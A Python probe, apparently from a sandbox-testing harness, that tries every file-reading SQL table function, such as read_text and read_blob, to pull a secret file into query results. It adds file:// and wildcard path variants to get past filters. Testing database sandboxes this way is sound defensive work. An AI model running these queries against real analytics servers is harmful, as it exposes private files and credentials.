"""Read the secret file beside the input with every function that reads files.

origin: read_text, read_blob and their like, known from SQL injections into analytics servers
why: a function in a FROM clause takes any path
control: succeeds
grants: data
data: input
"""

READERS = ("read_text", "read_blob", "read_csv", "read_csv_auto", "sniff_csv", "read_json_auto", "read_ndjson_objects")


def attack(target):
    neighbour = os.path.join(os.path.dirname(target["data"]), "secret.txt")
    last = ""
    for database in databases():
        for reader in READERS:
            for path in (target["secret"], neighbour, f"file://{target['secret']}", f"{target['secret'][:-1]}?"):
                rows, refused = ask(database, f"SELECT * FROM {reader}('{path}')")
                if holds_token(target, repr(rows)):
                    return escaped(f"{reader} read the secret")
                last = refused or last
    return nothing(last)
